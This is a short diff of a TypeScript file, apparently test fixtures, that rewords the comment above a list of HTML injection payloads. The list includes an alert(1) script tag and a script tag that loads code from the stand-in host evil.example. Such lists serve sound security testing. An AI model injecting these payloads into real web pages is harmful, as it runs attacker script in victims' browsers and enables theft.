@@ -1,4 +1,4 @@
-/** Texts that become elements, attributes or scripts wherever text is taken for HTML. */
+/** Texts that become elements, attributes or scripts when inserted as HTML. */
 export const htmlPayloads: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
